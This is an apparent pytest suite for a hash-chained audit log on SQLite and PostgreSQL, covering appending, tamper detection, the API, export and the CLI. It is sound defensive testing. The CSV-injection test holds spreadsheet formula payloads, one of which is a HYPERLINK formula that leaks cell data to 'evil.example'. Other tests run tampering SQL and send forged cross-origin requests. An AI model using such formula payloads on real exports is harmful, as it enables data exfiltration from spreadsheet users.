"""The audit log (docs/design.md §11) on SQLite and PostgreSQL: chain, store, writer, journal, API, CLI."""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import json
import math
import os
import subprocess
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from enum import IntEnum
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text, update
from sqlalchemy.engine import URL

from tests.server import THALLUS
from tests.service import PASSWORD, SAME_ORIGIN, Api, running_api, settings_for
from thallus.audit import AuditEvent
from thallus.server.api.routes.audit_logs import encode_cursor
from thallus.server.audit import append as append_module
from thallus.server.audit.append import CoreAppender
from thallus.server.audit.chain import FIELDS, Prepared, canonical, halves_hash, link_hash, normalised
from thallus.server.audit.journal import Journal
from thallus.server.audit.store import AuditFilter, AuditStore
from thallus.server.audit.writer import AuditWriter, json_safe, prepare
from thallus.server.storage import Database
from thallus.server.storage.models import GENESIS_HASH, AuditLog


def event(action: str = "request", **fields: Any) -> AuditEvent:
    return AuditEvent(action=action, outcome=fields.pop("outcome", "success"), **fields)


async def with_store(url: str) -> tuple[Database, AuditStore]:
    database = Database(url)
    await database.migrate()
    return database, AuditStore(database)


def run(coroutine: Any) -> Any:
    return asyncio.run(coroutine)


# -- the chain ------------------------------------------------------------------------------------


def test_link_hash_covers_content_seq_and_previous() -> None:
    record = prepare(event(details={"b": 1, "a": [1, 2]}, duration_ms=1.5))
    base = link_hash(GENESIS_HASH, record, 1)
    assert link_hash(GENESIS_HASH, record, 2) != base
    assert link_hash("1" * 64, record, 1) != base
    assert link_hash(GENESIS_HASH, {**record, "outcome": "failure"}, 1) != base
    assert link_hash(GENESIS_HASH, dict(reversed(list(record.items()))), 1) == base, "key order is irrelevant"


def test_prepare_redacts_and_bounds() -> None:
    record = prepare(
        event(
            details={"password": "hunter2-XYZ!", "nested": {"api_key": "thal_x", "ok": 1}, "when": datetime.now(UTC)},
            user_agent="u" * 2000,
            path="/" + "p" * 5000,
        )
    )
    assert record["details"]["password"] == "[redacted]"
    assert record["details"]["nested"] == {"api_key": "[redacted]", "ok": 1}
    assert isinstance(record["details"]["when"], str)
    assert len(record["user_agent"]) == 512 and record["user_agent"].endswith("…[truncated 1511 chars]")
    assert len(record["path"]) == 2048 and record["path"].endswith("…[truncated 2976 chars]")
    assert len(record["id"]) == 36


# -- the store ----------------------------------------------------------------------------------


def test_append_chains_and_verifies(database_url: str) -> None:
    async def scenario() -> None:
        database, store = await with_store(database_url)
        try:
            records = [prepare(event(resource_id=str(i), details={"i": i})) for i in range(25)]
            assert await store.append(records[:10]) == 10
            assert await store.append(records[10:]) == 15
            assert await store.append(records[5:15]) == 0, "already stored ids are skipped (exactly once)"
            rows = [row async for row in store.stream(AuditFilter(), chunk=7)]
            assert [row.seq for row in rows] == list(range(1, 26))
            assert [row.resource_id for row in rows] == [str(i) for i in range(25)]
            assert rows[0].prev_hash == GENESIS_HASH
            assert all(later.prev_hash == earlier.hash for earlier, later in itertools.pairwise(rows))
            result = await store.verify()
            assert (result.ok, result.checked) == (True, 25)
        finally:
            await database.dispose()

    run(scenario())


@pytest.mark.parametrize(
    ("tamper", "broken_seq", "reason"),
    [
        ("UPDATE audit_logs SET outcome = 'success', status_code = 200 WHERE seq = 4", 4, "content"),
        ("UPDATE audit_logs SET created_at = created_at WHERE seq = 4; UPDATE audit_logs SET user_id = 'mallory' WHERE seq = 4", 4, "content"),
        ("DELETE FROM audit_logs WHERE seq = 4", 4, "missing"),
        ("DELETE FROM audit_logs WHERE seq >= 6", 6, "missing"),
        ("UPDATE audit_logs SET prev_hash = CASE WHEN prev_hash LIKE 'f%' THEN 'e' ELSE 'f' END || substr(prev_hash, 2) WHERE seq = 3", 3, "prev_hash"),
    ],
)  # fmt: skip
def test_tampering_is_named_by_verify(database_url: str, tamper: str, broken_seq: int, reason: str) -> None:
    async def scenario() -> None:
        database, store = await with_store(database_url)
        try:
            await store.append([prepare(event(outcome="denied", status_code=403)) for _ in range(8)])
            async with database.session() as db:
                for statement in tamper.split("; "):
                    await db.execute(text(statement))
                await db.commit()
            result = await store.verify()
            assert not result.ok
            assert result.broken_seq == broken_seq
            assert reason in (result.reason or "")
        finally:
            await database.dispose()

    run(scenario())


def test_query_filters_and_pages(database_url: str) -> None:
    async def scenario() -> None:
        database, store = await with_store(database_url)
        try:
            base = datetime(2026, 1, 1, tzinfo=UTC)
            await store.append(
                [
                    prepare(
                        event(
                            "login" if i % 3 == 0 else "request",
                            outcome="success" if i % 2 else "failure",
                            user_id=f"user-{i % 4}",
                            resource_type="session",
                            resource_id=f"s{i}",
                            correlation_id=f"corr-{i}",
                            created_at=base + timedelta(minutes=i),
                        )
                    )
                    for i in range(30)
                ]
            )
            newest = await store.query(AuditFilter(), limit=5)
            assert [row.seq for row in newest] == [30, 29, 28, 27, 26]
            following = await store.query(AuditFilter(), limit=5, before_seq=26)
            assert [row.seq for row in following] == [25, 24, 23, 22, 21]
            logins = await store.query(AuditFilter(actions=("login",)), limit=100)
            assert len(logins) == 10 and all(row.action == "login" for row in logins)
            mixed = await store.query(
                AuditFilter(actions=("login", "request"), outcome="failure", user_id="user-0"), limit=100
            )
            assert {row.resource_id for row in mixed} == {"s0", "s4", "s8", "s12", "s16", "s20", "s24", "s28"}
            one = await store.query(AuditFilter(correlation_id="corr-7"), limit=10)
            assert [row.resource_id for row in one] == ["s7"]
            window = await store.query(
                AuditFilter(start=base + timedelta(minutes=10), end=base + timedelta(minutes=12)), limit=10
            )
            assert sorted(row.resource_id or "" for row in window) == ["s10", "s11", "s12"]
            by_resource = await store.query(AuditFilter(resource_type="session", resource_id="s3"), limit=10)
            assert len(by_resource) == 1
        finally:
            await database.dispose()

    run(scenario())


def test_prune_keeps_the_chain_verifiable(database_url: str) -> None:
    async def scenario() -> None:
        database, store = await with_store(database_url)
        try:
            old = datetime.now(UTC) - timedelta(days=100)
            await store.append([prepare(event(created_at=old + timedelta(seconds=i))) for i in range(12)])
            await store.append([prepare(event()) for _ in range(5)])
            assert await store.prune(datetime.now(UTC) - timedelta(days=30)) == 12
            assert await store.count() == 5
            result = await store.verify()
            assert (result.ok, result.checked) == (True, 5)
            assert await store.prune(datetime.now(UTC) - timedelta(days=30)) == 0
            await store.append([prepare(event()) for _ in range(2)])
            assert (await store.verify()).ok
            async with database.session() as db:
                await db.execute(update(AuditLog).where(AuditLog.seq == 14).values(action="login"))
                await db.commit()
            broken = await store.verify()
            assert (broken.ok, broken.broken_seq) == (False, 14)
        finally:
            await database.dispose()

    run(scenario())


# -- appending at the driver level (append.py) ----------------------------------------------------

JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda children: st.lists(children, max_size=3) | st.dictionaries(st.text(max_size=5), children, max_size=3),
    max_leaves=8,
)


FIELD_VALUES = {
    "details": JSON_VALUES | st.fixed_dictionaries({"seq": st.just(0), "status_code": st.just('"seq":0,')}),
    "status_code": st.none() | st.integers(100, 599),
    "duration_ms": st.none() | st.floats(allow_nan=False, allow_infinity=False),
    "created_at": st.datetimes(timezones=st.just(UTC)),
}


@given(
    record=st.fixed_dictionaries(
        {name: FIELD_VALUES.get(name, st.none() | st.text(max_size=20)) for name in FIELDS if name != "id"}
    ),
    seq=st.integers(min_value=1, max_value=2**62),
)
def test_canonical_halves_join_to_the_canonical_json(record: dict[str, Any], seq: int) -> None:
    """The two halves around ``seq`` are byte for byte the sorted-keys JSON the chain was defined with."""
    document = {name: record.get(name) for name in FIELDS} | {"seq": seq}
    document["created_at"] = record["created_at"].isoformat(timespec="microseconds")
    expected = json.dumps(document, sort_keys=True, separators=(",", ":"), ensure_ascii=True, default=str)
    assert canonical(record, seq) == expected
    prepared = Prepared.of({**record, "id": "r"})
    assert prepared.record == normalised({**record, "id": "r"})
    assert halves_hash("p", prepared.halves, seq) == link_hash("p", prepared.record, seq)


class Level(IntEnum):
    LOW = 1


@pytest.mark.parametrize(
    "details",
    [
        {"auth_method": None},
        {"auth_method": "api_key", "api_key_id": "k1", "n": 3, "ok": True, "ratio": 0.5},
        {"nested": {"a": [1, 2]}},
        {"when": datetime(2026, 1, 2, tzinfo=UTC)},
        {"tuple": (1, 2)},
        {1: "int key", None: "none key"},
        {"int_subclass": Level.LOW},
        ["a", "list"],
    ],
)
def test_json_safe_is_the_json_round_trip(details: Any) -> None:
    expected = json.loads(json.dumps(details, default=str))
    copied = json_safe(details)
    assert copied == expected
    assert [type(value) for value in _leaves(copied)] == [type(value) for value in _leaves(expected)]


def _leaves(value: Any) -> list[Any]:
    if isinstance(value, dict):
        return [*value.keys(), *(leaf for item in value.values() for leaf in _leaves(item))]
    if isinstance(value, list):
        return [leaf for item in value for leaf in _leaves(item)]
    return [value]


async def stored_rows(database: Database) -> list[tuple[Any, ...]]:
    """Every stored audit row as the database holds it (no SQLAlchemy type processing)."""
    async with database.engine.connect() as connection:
        result = await connection.exec_driver_sql("SELECT *, details IS NULL AS sql_null FROM audit_logs ORDER BY seq")
        return [tuple(row) for row in result]


async def reset_chain(database: Database) -> None:
    async with database.engine.begin() as connection:
        await connection.execute(text("DELETE FROM audit_logs"))
        await connection.execute(
            text("UPDATE audit_chain_head SET seq = 0, hash = :genesis"), {"genesis": GENESIS_HASH}
        )


def test_driver_level_rows_equal_the_core_ones(database_url: str) -> None:
    """The driver-level appender stores exactly what SQLAlchemy Core stores: JSON null as JSON null,
    times in SQLAlchemy's spelling, integer durations as floats, non-UTC times in UTC."""
    records = [
        prepare(event(details=None)),
        prepare(event(details={"auth_method": None}, duration_ms=1.25, status_code=204)),
        prepare(event(details={"é": ["ünïcode", 1, 2.5, None, True], "deep": {"a": {"b": []}}}, duration_ms=7)),
        prepare(event(created_at=datetime(2026, 3, 1, 12, 0, 0, 1, tzinfo=timezone(timedelta(hours=2))))),
        {**prepare(event(error_message="x" * 300)), "created_at": datetime(2026, 3, 1, tzinfo=UTC)},
        {**prepare(event()), "created_at": "2026-03-01T14:00:00.000001+02:00", "duration_ms": math.nan},
    ]

    async def scenario() -> None:
        database, store = await with_store(database_url)
        try:
            assert not isinstance(store.appender(), CoreAppender), "the driver-level appender is the default"
            core = CoreAppender(database.engine)
            assert await core.append(records) == len(records)
            expected = await stored_rows(database)
            await reset_chain(database)
            assert await store.append(records) == len(records)
            assert await stored_rows(database) == expected
            assert (await store.verify()).ok
        finally:
            await database.dispose()

    run(scenario())


def test_appenders_that_take_turns_keep_one_chain(database_url: str) -> None:
    """Held appenders of several instances: each one's remembered head goes stale whenever another
    appends; it must notice, link onto the real head and still store everything exactly once."""

    async def scenario() -> None:
        database, store = await with_store(database_url)
        appenders = [store.appender() for _ in range(3)]
        try:
            expected: list[str] = []
            for turn in range(6):  # in turns: every append after the first finds the head moved
                batch = [prepare(event(resource_id=f"{turn}-{i}")) for i in range(3)]
                assert await appenders[turn % 2].append(batch, replay=False) == 3
                expected += [record["resource_id"] for record in batch]

            async def lane(appender: Any, name: str) -> list[str]:  # one writer task per instance
                lane_order = []
                for n in range(5):
                    batch = [prepare(event(resource_id=f"{name}{n}-{i}")) for i in range(4)]
                    assert await appender.append(batch, replay=False) == 4
                    lane_order += [record["resource_id"] for record in batch]
                return lane_order

            lanes = await asyncio.gather(*(lane(appender, "abc"[k]) for k, appender in enumerate(appenders)))
            rows = [row async for row in store.stream(AuditFilter())]
            assert [row.seq for row in rows] == list(range(1, 18 + 3 * 20 + 1)), "one sequence, no gaps"
            assert [row.resource_id for row in rows[:18]] == expected
            for lane_order in lanes:  # each instance's records in its own order, each batch contiguous
                mine = [row for row in rows if row.resource_id in set(lane_order)]
                assert [row.resource_id for row in mine] == lane_order
                for start in range(0, 20, 4):
                    assert [row.seq for row in mine[start : start + 4]] == list(
                        range(mine[start].seq, mine[start].seq + 4)
                    )
            assert (await store.verify()).ok
        finally:
            for appender in appenders:
                await appender.close()
            await database.dispose()

    run(scenario())


def test_linking_hands_the_loop_back_between_chunks(database_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A big batch is linked a chunk at a time, other tasks running in between; order and
    exactly-once are unchanged."""
    monkeypatch.setattr(append_module, "LINK_CHUNK", 4)

    async def scenario() -> None:
        ticks = 0

        async def ticker() -> None:
            nonlocal ticks
            while True:
                ticks += 1
                await asyncio.sleep(0)

        records = [prepare(event(resource_id=str(i))) for i in range(40)]
        chain = append_module.Chain(0, GENESIS_HASH)
        task = asyncio.create_task(ticker())
        await asyncio.sleep(0)
        before = ticks
        await chain.add_yielding([*records, records[3]])  # a repeated record is linked once
        task.cancel()
        assert ticks - before >= 40 // 4 - 1, "the ticker ran between chunks"
        assert [row[1 + FIELDS.index("resource_id")] for row in chain.rows] == [str(i) for i in range(40)]
        assert [row[0] for row in chain.rows] == list(range(1, 41))

        database, store = await with_store(database_url)
        try:
            assert await store.append(records, replay=False) == 40
            rows = [row async for row in store.stream(AuditFilter())]
            assert [row.resource_id for row in rows] == [str(i) for i in range(40)]
            assert (await store.verify()).ok
        finally:
            await database.dispose()

    run(scenario())


# -- the writer -------------------------------------------------------------------------------


@pytest.fixture
def journal_dir(tmp_path: Path) -> Path:
    return tmp_path / "journal"


async def running_writer(url: str, journal_dir: Path, **options: Any) -> tuple[Database, AuditWriter]:
    database = Database(url)
    await database.migrate()
    writer = AuditWriter(AuditStore(database), journal_dir, **options)
    await writer.start()
    return database, writer


def test_writer_batches_records_into_the_store(database_url: str, journal_dir: Path) -> None:
    async def scenario() -> None:
        database, writer = await running_writer(database_url, journal_dir, batch_size=50)
        for i in range(230):
            writer.record(event(resource_id=str(i)))
        await writer.stop()
        store = AuditStore(database)
        rows = [row async for row in store.stream(AuditFilter())]
        assert [row.resource_id for row in rows] == [str(i) for i in range(230)]
        assert writer.stats["written"] == 230 and writer.stats["spilled"] == 0
        assert (await store.verify()).ok
        assert not list(journal_dir.glob("*.jsonl")), "no journal left behind"
        await database.dispose()

    run(scenario())


def test_appends_start_at_most_every_linger(database_url: str, journal_dir: Path) -> None:
    """A record after a quiet spell is written at once; the ones after it wait for the next append,
    at most ``linger`` after the last one began (or for ``stop``), and share its transaction."""

    async def scenario() -> None:
        database, writer = await running_writer(database_url, journal_dir, linger=3600)
        writer.record(event(resource_id="first"))
        await writer.flush()  # written without lingering: the writer was idle
        assert writer.stats["written"] == 1
        for name in ("second", "third"):
            writer.record(event(resource_id=name))
        await asyncio.sleep(0.05)
        assert writer.stats["written"] == 1, "an hour has not passed since the last append"
        await writer.stop()
        assert writer.stats["written"] == 3
        rows = [row async for row in AuditStore(database).stream(AuditFilter())]
        assert [row.resource_id for row in rows] == ["first", "second", "third"]
        await database.dispose()

    run(scenario())


def test_records_from_worker_threads(database_url: str, journal_dir: Path) -> None:
    async def scenario() -> None:
        database, writer = await running_writer(database_url, journal_dir)
        await asyncio.gather(*(asyncio.to_thread(writer.record, event(resource_id=str(i))) for i in range(20)))
        await writer.stop()
        assert await AuditStore(database).count() == 20
        await database.dispose()

    run(scenario())


def test_full_queue_spills_rather_than_drops(database_url: str, journal_dir: Path) -> None:
    async def scenario() -> None:
        database, writer = await running_writer(database_url, journal_dir, queue_size=5)
        for i in range(40):  # synchronously: the writer task gets no chance to drain meanwhile
            writer.record(event(resource_id=str(i)))
        assert writer.stats["overflowed"] == 35
        await writer.stop()
        store = AuditStore(database)
        rows = [row async for row in store.stream(AuditFilter())]
        assert sorted(int(row.resource_id or -1) for row in rows) == list(range(40)), "every record stored once"
        assert (await store.verify()).ok
        await database.dispose()

    run(scenario())


def test_orphaned_journal_is_replayed_exactly_once(database_url: str, journal_dir: Path) -> None:
    async def scenario() -> None:
        records = [prepare(event(resource_id=str(i))) for i in range(10)]
        dead = Journal(journal_dir)  # a process that spilled, then died without replaying
        dead.append(records)
        dead.close()
        database, store = await with_store(database_url)
        await store.append(records[:4])  # part of it had reached the database before the crash
        writer = AuditWriter(store, journal_dir)
        await writer.start()
        await writer.flush()
        await writer.stop()
        rows = [row async for row in store.stream(AuditFilter())]
        assert [row.resource_id for row in rows] == [str(i) for i in range(10)]
        assert not list(journal_dir.glob("*.jsonl"))
        await database.dispose()

    run(scenario())


def test_torn_last_journal_line_is_skipped(database_url: str, journal_dir: Path) -> None:
    async def scenario() -> None:
        journal = Journal(journal_dir)
        journal.append([prepare(event(resource_id="whole"))])
        journal.close()
        with open(journal.path, "a", encoding="utf-8") as file:
            file.write('{"id": "torn-in-half", "act')
        database, writer = await running_writer(database_url, journal_dir)
        await writer.stop()
        assert [row.resource_id async for row in AuditStore(database).stream(AuditFilter())] == ["whole"]
        await database.dispose()

    run(scenario())


def test_unreachable_database_spills_to_the_journal(journal_dir: Path) -> None:
    async def scenario() -> None:
        database = Database("postgresql+asyncpg://postgres@127.0.0.1:1/none")
        writer = AuditWriter(AuditStore(database), journal_dir)
        await writer.start()
        for i in range(7):
            writer.record(event(resource_id=str(i)))
        await writer.stop()
        journals = list(journal_dir.glob("journal-*.jsonl"))
        assert len(journals) == 1
        lines = journals[0].read_text().splitlines()
        assert [json.loads(line)["resource_id"] for line in lines] == [str(i) for i in range(7)]
        await database.dispose()

    run(scenario())


def test_unstorable_text_neither_fails_nor_blocks_the_log(database_url: str, journal_dir: Path) -> None:
    """A request can carry NUL (``%00`` in its path, ``\\u0000`` in a JSON body), which PostgreSQL
    cannot store, and lone surrogates (``\\ud800`` in a JSON body), which neither database can: they
    are stored as U+FFFD, and the records after them are stored too."""

    async def scenario() -> None:
        database, writer = await running_writer(database_url, journal_dir)
        writer.record(
            event(
                path="/api/v1/\x00x",
                user_agent="ua-\udcff",
                details={"email": "a\x00@example.com", "k\ud800": ["\x00", "ok-é"]},
            )
        )
        for i in range(3):
            writer.record(event(resource_id=str(i)))
        await writer.stop()
        store = AuditStore(database)
        rows = [row async for row in store.stream(AuditFilter())]
        assert [row.resource_id for row in rows] == [None, "0", "1", "2"]
        assert (rows[0].path, rows[0].user_agent) == ("/api/v1/\ufffdx", "ua-\ufffd")
        assert rows[0].details == {"email": "a\ufffd@example.com", "k\ufffd": ["\ufffd", "ok-é"]}
        assert writer.stats["spilled"] == 0 and (await store.verify()).ok
        await database.dispose()

    run(scenario())


async def wait_until(condition: Any, what: str, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"gave up waiting until {what}"
        await asyncio.sleep(0.02)


def test_writer_survives_losing_its_held_connection(empty_postgres: URL, journal_dir: Path) -> None:
    """The writer keeps one connection between batches; killed under it (a restart, a failover),
    the batch in hand is journalled and replayed on a new connection, exactly once."""
    url = empty_postgres.render_as_string(hide_password=False)

    async def scenario() -> None:
        database, writer = await running_writer(url, journal_dir, retry_interval=0.05)
        try:
            for i in range(5):
                writer.record(event(resource_id=str(i)))
            await writer.flush()
            killer = await asyncpg.connect(empty_postgres.set(drivername="postgresql").render_as_string(False))
            try:
                killed = await killer.fetchval(
                    "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity "
                    "WHERE datname = current_database() AND pid <> pg_backend_pid()"
                )
            finally:
                await killer.close()
            assert killed >= 1
            for i in range(5, 10):
                writer.record(event(resource_id=str(i)))
            await wait_until(lambda: writer.stats["replayed"] >= 5, "the spilled batch is replayed")
            for i in range(10, 12):
                writer.record(event(resource_id=str(i)))
            await writer.stop()
            assert writer.stats["spilled"] == 5, writer.stats
            store = AuditStore(database)
            assert [row.resource_id async for row in store.stream(AuditFilter())] == [str(i) for i in range(12)]
            assert (await store.verify()).ok
        finally:
            await database.dispose()

    run(scenario())


def test_timed_out_write_that_commits_later_is_stored_once(database_url: str, journal_dir: Path) -> None:
    """A write held up past ``write_timeout`` (the chain locked by someone else) is journalled; it may
    still commit once the lock is free — the replay then skips it. Order is kept throughout."""

    async def scenario() -> None:
        database = Database(database_url)
        await database.migrate()
        blocker = await database.engine.connect()  # holds the chain head (the write lock on SQLite)
        await blocker.execute(text("UPDATE audit_chain_head SET updated_at = updated_at WHERE id = 1"))
        writer = AuditWriter(AuditStore(database), journal_dir, write_timeout=0.3, retry_interval=0.05)
        await writer.start()
        try:
            for i in range(5):
                writer.record(event(resource_id=str(i)))
            await wait_until(lambda: writer.stats["spilled"] == 5, "the held-up batch is journalled")
            await blocker.rollback()
            for i in range(5, 8):
                writer.record(event(resource_id=str(i)))
            await writer.stop()
            store = AuditStore(database)
            assert [row.resource_id async for row in store.stream(AuditFilter())] == [str(i) for i in range(8)]
            assert (await store.verify()).ok
            assert not any(path.stat().st_size for path in journal_dir.glob("*.jsonl"))
        finally:
            await blocker.close()
            await database.dispose()

    run(scenario())


# -- through the API ------------------------------------------------------------------------------


@pytest.fixture
def admin_api(database_url: str) -> Iterator[Api]:
    with running_api(settings_for(database_url, rate_limit_auth="1000/minute")) as api:
        api.create_user("ada@example.com")
        api.create_user("root@example.com", role="admin")
        yield api


def test_every_action_is_recorded(admin_api: Api) -> None:
    api = admin_api
    headers = api.bearer()
    key = api.new_key(headers)
    api.client.get("/api/v1/users/me", headers={"X-API-Key": key["key"]})
    api.client.post("/api/v1/api-keys", json={"name": "by key"}, headers={"X-API-Key": key["key"]})
    api.client.delete(f"/api/v1/api-keys/{key['id']}", headers=headers)
    api.login(password="Wrong-Password-123!")
    api.client.post("/api/v1/auth/logout", headers={"Origin": "https://evil.example"})  # csrf_rejected
    api.client.options(
        "/api/v1/users/me", headers={"Origin": "https://evil.example", "Access-Control-Request-Method": "GET"}
    )
    api.client.get("/api/v1/audit-logs", headers=headers)  # permission_denied
    api.client.post("/api/v1/auth/logout", headers=SAME_ORIGIN)
    actions = {row.action for row in api.stored_audit()}
    assert {
        "login", "login_failed", "api_key_create", "api_key_revoke", "csrf_rejected", "cors_rejected",
        "permission_denied", "logout", "request",
    } <= actions  # fmt: skip
    rows = api.stored_audit()
    assert all(row.correlation_id for row in rows)
    csrf = next(row for row in rows if row.action == "csrf_rejected")
    assert csrf.details == {"reason": "Origin is not a trusted origin", "origin": "https://evil.example", "count": 1}
    assert (csrf.outcome, csrf.status_code, csrf.method, csrf.path) == ("denied", 403, "POST", "/api/v1/auth/logout")
    cors = next(row for row in rows if row.action == "cors_rejected")
    assert cors.details is not None and cors.details["origin"] == "https://evil.example"


def test_one_request_record_per_state_changing_request(admin_api: Api) -> None:
    api = admin_api
    headers = api.bearer()
    key = api.new_key(headers)["key"]
    created = api.client.post("/api/v1/auth/logout", headers={"X-API-Key": key, "X-Correlation-ID": "req-1"})
    missing = api.client.post("/api/v1/nowhere", headers={"X-Correlation-ID": "req-2"})
    api.client.get("/api/v1/users/me", headers={"X-Correlation-ID": "req-3"})  # safe: no request record
    requests = {row.correlation_id: row for row in api.stored_audit() if row.action == "request"}
    made = requests["req-1"]
    assert (made.method, made.path, made.status_code, made.outcome) == ("POST", "/api/v1/auth/logout", 204, "success")
    assert made.details is not None and made.details["auth_method"] == "api_key" and made.details["api_key_id"]
    assert made.duration_ms is not None and made.duration_ms > 0
    ada = api.run(api.identity.user_by_email, "ada@example.com")
    assert made.user_id == ada.id, "attributed to the key's user"
    assert requests["req-2"].status_code == missing.status_code == 404
    assert requests["req-2"].user_id is None
    assert "req-3" not in requests
    assert created.status_code == 204


def test_query_endpoint(admin_api: Api) -> None:
    api = admin_api
    admin = api.bearer("root@example.com")
    for number in range(3):  # three sign-in names: three records (one name's failures are coalesced)
        api.login(f"nobody{number}@example.com", password="Wrong-Password-123!")
    api.flush_audit()
    response = api.client.get("/api/v1/audit-logs", params={"action": "login_failed", "limit": 2}, headers=admin)
    assert response.status_code == 200
    page = response.json()
    assert set(page) == {"items", "next_cursor"}
    assert len(page["items"]) == 2 and page["next_cursor"]
    assert page["items"][0]["seq"] > page["items"][1]["seq"], "newest first"
    item = page["items"][0]
    assert {"id", "action", "user_id", "outcome", "resource_type", "resource_id", "correlation_id", "details",
            "error_message", "ip_address", "user_agent", "method", "path", "status_code", "duration_ms",
            "created_at"} <= set(item)  # fmt: skip
    rest = api.client.get(
        "/api/v1/audit-logs",
        params={"action": "login_failed", "limit": 2, "cursor": page["next_cursor"]},
        headers=admin,
    ).json()
    assert len(rest["items"]) == 1 and rest["next_cursor"] is None
    both = api.client.get("/api/v1/audit-logs", params={"actions": "login,login_failed"}, headers=admin).json()
    assert {item["action"] for item in both["items"]} == {"login", "login_failed"}
    assert api.client.get("/api/v1/audit-logs", params={"limit": 1001}, headers=admin).status_code == 422
    assert api.client.get("/api/v1/audit-logs", params={"limit": 1000}, headers=admin).status_code == 200
    for cursor in ("not-a-cursor", encode_cursor(2**63), encode_cursor(10**400), encode_cursor(True), "A" * 5000):
        bad_cursor = api.client.get("/api/v1/audit-logs", params={"cursor": cursor}, headers=admin)
        assert (bad_cursor.status_code, bad_cursor.json()["error"]) == (422, "ValidationError"), cursor[:40]
        assert bad_cursor.json()["details"][0]["loc"] == ["query", "cursor"]
    future = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    assert api.client.get("/api/v1/audit-logs", params={"start_date": future}, headers=admin).json()["items"] == []
    assert api.client.get("/api/v1/audit-logs", params={"outcome": "maybe"}, headers=admin).status_code == 422
    for unix_time in ("0", "1700000000", "-1.5"):  # not Unix time: the schema says ISO 8601 date-time
        for name in ("start_date", "end_date"):
            numeric = api.client.get("/api/v1/audit-logs", params={name: unix_time}, headers=admin)
            assert numeric.status_code == 422, (name, unix_time)
            assert numeric.json()["details"][0]["loc"] == ["query", name]
    assert api.client.get("/api/v1/audit-logs", params={"start_date": "2026-01-31"}, headers=admin).status_code == 200


def test_query_needs_admin_and_offers_no_writes(admin_api: Api) -> None:
    api = admin_api
    user = api.bearer()
    denied = api.client.get("/api/v1/audit-logs", headers=user)
    assert (denied.status_code, denied.json()["error"]) == (403, "PermissionDeniedError")
    assert api.client.get("/api/v1/audit-logs").status_code == 401
    denial = [row for row in api.stored_audit() if row.action == "permission_denied"]
    assert denial and denial[-1].details == {"needs": "admin", "auth_method": "session"}
    admin = api.bearer("root@example.com")
    for method in ("POST", "PUT", "PATCH", "DELETE"):
        assert api.client.request(method, "/api/v1/audit-logs", headers={**admin, **SAME_ORIGIN}).status_code == 405


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_export_streams_every_record(admin_api: Api, fmt: str) -> None:
    api = admin_api
    admin = api.bearer("root@example.com")
    for number in range(4):  # four sign-in names: four records (one name's failures are coalesced)
        api.login(f"nobody{number}@example.com", password="Wrong-Password-123!")
    api.flush_audit()
    response = api.client.get(
        "/api/v1/audit-logs/export", params={"format": fmt, "action": "login_failed"}, headers=admin
    )
    assert response.status_code == 200
    assert response.headers["content-disposition"] == f'attachment; filename="audit-logs.{fmt}"'
    if fmt == "jsonl":
        records = [json.loads(line) for line in response.text.splitlines()]
    else:
        records = list(csv.DictReader(io.StringIO(response.text)))
    assert len(records) == 4
    assert [int(r["seq"]) for r in records] == sorted(int(r["seq"]) for r in records), "oldest first"
    assert all(r["action"] == "login_failed" and r["hash"] for r in records)


def test_the_csv_export_neutralises_formulas(admin_api: Api) -> None:
    """OWASP CSV injection: a cell a spreadsheet would evaluate is prefixed with ', JSON Lines stays raw."""
    api = admin_api
    admin = api.bearer("root@example.com")
    formulas = ['=HYPERLINK("https://evil.example/?x="&A2,"Details")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for number, agent in enumerate(formulas):
        api.login(f"nobody{number}@example.com", password="Wrong-Password-123!", **{"User-Agent": agent})
    api.flush_audit()
    params = {"action": "login_failed"}
    csv_export = api.client.get("/api/v1/audit-logs/export", params={**params, "format": "csv"}, headers=admin)
    agents = [row["user_agent"] for row in csv.DictReader(io.StringIO(csv_export.text))]
    assert agents == ["'" + agent for agent in formulas]
    lines = api.client.get("/api/v1/audit-logs/export", params={**params, "format": "jsonl"}, headers=admin).text
    assert [json.loads(line)["user_agent"] for line in lines.splitlines()] == formulas


# -- the CLI ---------------------------------------------------------------------------------------


def thallus(database_url: str, data_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("THALLUS_")}
    env.update(THALLUS_DATABASE_URL=database_url, THALLUS_DATA_DIR=str(data_dir))
    return subprocess.run([THALLUS, *args], env=env, capture_output=True, text=True, timeout=60, check=False)


def test_cli_verify_export_prune(database_url: str, tmp_path: Path) -> None:
    async def seed() -> None:
        database, store = await with_store(database_url)
        old = datetime.now(UTC) - timedelta(days=400)
        await store.append([prepare(event("login", created_at=old + timedelta(seconds=i))) for i in range(6)])
        await store.append([prepare(event("logout")) for _ in range(3)])
        await database.dispose()

    run(seed())
    verified = thallus(database_url, tmp_path, "audit", "verify")
    assert (verified.returncode, verified.stdout.strip()) == (0, "audit chain intact: 9 records")
    exported = thallus(database_url, tmp_path, "audit", "export", "--action", "logout")
    assert exported.returncode == 0
    assert [json.loads(line)["action"] for line in exported.stdout.splitlines()] == ["logout"] * 3
    target = tmp_path / "all.csv"
    assert (
        thallus(database_url, tmp_path, "audit", "export", "--format", "csv", "--output", str(target)).returncode == 0
    )
    assert len(target.read_text().splitlines()) == 10
    pruned = thallus(database_url, tmp_path, "audit", "prune", "--older-than", "365")
    assert pruned.returncode == 0 and pruned.stdout.startswith("pruned 6 audit records")
    assert thallus(database_url, tmp_path, "audit", "verify").stdout.strip() == "audit chain intact: 3 records"

    async def tamper() -> None:
        database = Database(database_url)
        async with database.session() as db:
            await db.execute(update(AuditLog).where(AuditLog.seq == 8).values(outcome="denied"))
            await db.commit()
        await database.dispose()

    run(tamper())
    broken = thallus(database_url, tmp_path, "audit", "verify")
    assert broken.returncode == 1
    assert broken.stdout == ""
    assert broken.stderr.startswith("thallus: audit chain broken at seq 8 (id ")
    assert "its content does not match its hash" in broken.stderr


